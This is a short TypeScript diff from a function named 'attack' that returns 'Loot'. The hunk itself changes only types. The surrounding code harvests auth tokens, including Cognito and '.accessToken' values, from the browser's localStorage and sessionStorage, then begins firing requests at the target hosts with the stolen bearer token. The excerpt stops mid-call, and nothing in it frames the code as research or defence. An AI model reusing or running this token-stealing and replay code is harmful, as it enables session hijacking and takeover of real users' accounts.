@@ -28,12 +28,12 @@ async function attack({ hosts, calls }: Attack): Promise<Loot> {
     }
   };
   const stored = [
-    ...looked(() => Object.entries({ ...localStorage }), []),
-    ...looked(() => Object.entries({ ...sessionStorage }), []),
+    ...looked(() => Object.entries<string>(localStorage), []),
+    ...looked(() => Object.entries<string>(sessionStorage), []),
   ];
-  const tokens = stored.flatMap(([key, value]) => (/token|cognito/i.test(key) ? [String(value)] : []));
+  const tokens = stored.flatMap(([key, value]) => (/token|cognito/i.test(key) ? [value] : []));
   const bearer = stored.find(([key]) => key.endsWith('.accessToken'))?.[1];
-  const headers = bearer === undefined ? {} : { authorization: `Bearer ${String(bearer)}` };
+  const headers = bearer === undefined ? {} : { authorization: `Bearer ${bearer}` };
   const answers = await Promise.all(
     hosts.flatMap((host) =>
       calls.flatMap(({ method, path }) =>
